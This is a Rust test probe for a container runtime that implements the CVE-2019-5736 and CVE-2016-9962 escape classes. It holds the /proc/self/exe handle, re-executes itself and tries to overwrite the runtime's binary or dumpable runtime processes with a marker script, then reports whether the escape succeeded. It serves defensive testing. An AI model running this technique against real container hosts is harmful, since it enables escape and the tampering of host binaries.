//! `overwrite-exe`: the attack on the runtime's own binary (the CVE-2019-5736 class).
//!
//! Staged by a hostile image whose entry point is `#!/proc/self/exe overwrite-exe` and whose
//! dynamic loader is this probe: the kernel then executes the runtime's binary inside the
//! container with the probe as its loader, so the probe runs with `/proc/self/exe` naming
//! whatever the runtime executed from. It clears its parent-death signal (to outlive the
//! runtime if it can), opens `/proc/self/exe` (kept across exec), and re-executes itself
//! from the image as `overwrite-fd N`, so that nothing maps the runtime's binary any more;
//! that process keeps reopening the held file (and `/proc/1/exe`) for writing for a few
//! seconds and writes a marker into the first it can open. The test judges from the host,
//! on a copy of the runtime's binary.
//!
//! Neither is an entry of the attempt list: run normally, `/proc/self/exe` is the probe
//! itself, which belongs to the image.

use crate::sys::{self, Errno};
use std::ffi::CString;
use std::os::fd::AsRawFd;
use std::process::ExitCode;
use std::time::{Duration, Instant};

/// What the attacker writes when it gets a writable handle.
pub const MARKER: &[u8] = b"#!/bin/sh\necho overwritten by the container\n";

/// How long the attacker keeps trying (the runtime may only exit after a while).
const BUDGET: Duration = Duration::from_secs(3);

/// Where the probe lives in the test images.
const PROBE: &str = "/bin/crabcan-probe";

/// First stage, as the runtime binary's loader: hold `/proc/self/exe` and hand over.
/// `behind` (`overwrite-exe-behind`): the process the runtime started exits at once and a
/// child of it, left behind in the container, holds the file and attacks: a foreground
/// runtime that waits for the process is gone by then.
pub fn overwrite_exe(behind: bool) -> ExitCode {
    // SAFETY: prctl with plain integer arguments.
    unsafe { libc::prctl(libc::PR_SET_PDEATHSIG, 0, 0, 0, 0) };
    // Run as a plain command (not as a loader), /proc/self/exe is the probe, the image's
    // own file: only the init is a target then.
    let as_loader = std::fs::read_link("/proc/self/exe")
        .map(|p| !p.to_string_lossy().ends_with("crabcan-probe"))
        .unwrap_or(true);
    let fd = if as_loader {
        // SAFETY: a constant path; the fd is deliberately kept across exec (no O_CLOEXEC).
        unsafe { libc::open(c"/proc/self/exe".as_ptr(), libc::O_PATH) }
    } else {
        -1
    };
    let held = if fd >= 0 { fd.to_string() } else { "-".into() };
    println!("ready");
    if behind {
        use std::io::Write;
        let _ = std::io::stdout().flush();
        // SAFETY: the probe is single-threaded; the child only execs.
        match unsafe { libc::fork() } {
            0 => {}
            -1 => {
                println!(
                    "error: overwrite-exe: cannot fork: {}",
                    sys::en(Errno::last())
                );
                return ExitCode::from(2);
            }
            _ => return ExitCode::SUCCESS,
        }
    }
    let argv = [PROBE, "overwrite-fd", held.as_str()].map(|a| CString::new(a).unwrap_or_default());
    let env: [CString; 0] = [];
    let e = nix::unistd::execve(&argv[0], &argv, &env).err();
    println!("error: overwrite-exe: cannot exec {PROBE}: {e:?}");
    ExitCode::from(2)
}

/// Second stage: keeps trying to write through the held fd `N` (or `-`) and `/proc/1/exe`.
pub fn overwrite_fd(args: &[String]) -> ExitCode {
    let held: Option<i32> = args.first().and_then(|a| a.parse().ok());
    let start = Instant::now();
    let mut last = Vec::new();
    while start.elapsed() < BUDGET {
        last.clear();
        let mut targets = vec![("/proc/1/exe".to_string(), "/proc/1/exe".to_string())];
        if let Some(fd) = held {
            targets.push((
                "the held /proc/self/exe".into(),
                format!("/proc/self/fd/{fd}"),
            ));
        }
        for (name, path) in &targets {
            let Ok(c) = CString::new(path.as_str()) else {
                continue;
            };
            match sys::open(&c, libc::O_WRONLY) {
                Ok(w) => {
                    // SAFETY: writes from a live buffer to an fd we own.
                    let n = unsafe {
                        libc::pwrite(w.as_raw_fd(), MARKER.as_ptr().cast(), MARKER.len(), 0)
                    };
                    if n > 0 {
                        println!(
                            "ESCAPED: overwrite-exe: {name} opened for writing, wrote {n} bytes"
                        );
                        return ExitCode::from(1);
                    }
                    last.push(format!("{name}: opened, write {}", sys::en(Errno::last())));
                }
                Err(e) => last.push(format!("{name}: {}", sys::en(e))),
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    println!("blocked: overwrite-exe: {}", last.join("; "));
    ExitCode::SUCCESS
}

/// `no-pdeathsig CMD [ARG...]`: clears the parent-death signal, then executes CMD (as a
/// command that wants to outlive its runtime would).
pub fn no_pdeathsig(args: &[String]) -> ExitCode {
    // SAFETY: prctl with plain integer arguments.
    unsafe { libc::prctl(libc::PR_SET_PDEATHSIG, 0, 0, 0, 0) };
    let Some(argv) = args
        .iter()
        .map(|a| CString::new(a.as_str()).ok())
        .collect::<Option<Vec<_>>>()
        .filter(|v| !v.is_empty())
    else {
        println!("error: no-pdeathsig: give a command without NUL bytes");
        return ExitCode::from(2);
    };
    let e = nix::unistd::execvp(&argv[0], &argv).err();
    println!("error: no-pdeathsig: cannot exec {}: {e:?}", args[0]);
    ExitCode::from(2)
}

/// `watch-execs SECONDS`: for that long (or, with `stdin`, until stdin ends), watches every
/// process that appears in the container while the runtime execs into it. A process that still runs the runtime's image
/// must not be dumpable (its `/proc/PID/exe` opens only with ptrace access: the
/// CVE-2016-9962 class) and its executable must not be writable (CVE-2019-5736): every one
/// found open is held and written to until the end. Prints `watching`, then one verdict
/// line with how many guarded (non-dumpable) processes it met.
pub fn watch_execs(args: &[String]) -> ExitCode {
    let until_eof = args.first().is_some_and(|a| a == "stdin");
    let secs: u64 = args.first().and_then(|a| a.parse().ok()).unwrap_or(5);
    let me = std::process::id();
    let start = Instant::now();
    let go_on = || {
        if !until_eof {
            return start.elapsed() < Duration::from_secs(secs);
        }
        let mut p = libc::pollfd {
            fd: 0,
            events: libc::POLLIN,
            revents: 0,
        };
        // SAFETY: one valid pollfd, no wait.
        let r = unsafe { libc::poll(&mut p, 1, 0) };
        if r <= 0 {
            return r == 0;
        }
        let mut b = [0u8; 64];
        // SAFETY: reads into a live buffer of that length.
        unsafe { libc::read(0, b.as_mut_ptr().cast(), b.len()) > 0 }
    };
    let mut guarded = std::collections::BTreeSet::new();
    let mut held: Vec<(i32, String, std::os::fd::OwnedFd)> = Vec::new();
    let mut escaped = Vec::new();
    println!("watching");
    while go_on() {
        let Ok(dir) = std::fs::read_dir("/proc") else {
            println!("error: watch-execs: cannot list /proc");
            return ExitCode::from(2);
        };
        for e in dir.flatten() {
            let Some(pid) = e.file_name().to_str().and_then(|n| n.parse::<i32>().ok()) else {
                continue;
            };
            if pid as u32 == me || pid == 1 {
                continue;
            }
            let Ok(path) = CString::new(format!("/proc/{pid}/exe")) else {
                continue;
            };
            match sys::open(&path, libc::O_PATH | libc::O_CLOEXEC) {
                Ok(fd) => {
                    let name = std::fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd()))
                        .map(|p| p.to_string_lossy().into_owned())
                        .unwrap_or_default();
                    if name.contains("crabcan")
                        && !name.ends_with("crabcan-probe")
                        && !held.iter().any(|(p, ..)| *p == pid)
                    {
                        escaped.push(format!(
                            "process {pid} runs the runtime's image ({name}) and is dumpable"
                        ));
                        held.push((pid, name, fd));
                    }
                }
                Err(Errno::EACCES) | Err(Errno::EPERM) => {
                    guarded.insert(pid);
                }
                Err(_) => {}
            }
        }
        for (pid, name, fd) in &held {
            let Ok(p) = CString::new(format!("/proc/self/fd/{}", fd.as_raw_fd())) else {
                continue;
            };
            if let Ok(w) = sys::open(&p, libc::O_WRONLY) {
                // SAFETY: writes from a live buffer to an fd we own.
                let n =
                    unsafe { libc::pwrite(w.as_raw_fd(), MARKER.as_ptr().cast(), MARKER.len(), 0) };
                if n > 0 {
                    println!(
                        "ESCAPED: watch-execs: wrote {n} bytes into {name} (from process {pid})"
                    );
                    return ExitCode::from(1);
                }
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    if let Some(first) = escaped.first() {
        println!("ESCAPED: watch-execs: {first}");
        return ExitCode::from(1);
    }
    println!(
        "blocked: watch-execs: {} guarded processes seen",
        guarded.len()
    );
    ExitCode::SUCCESS
}
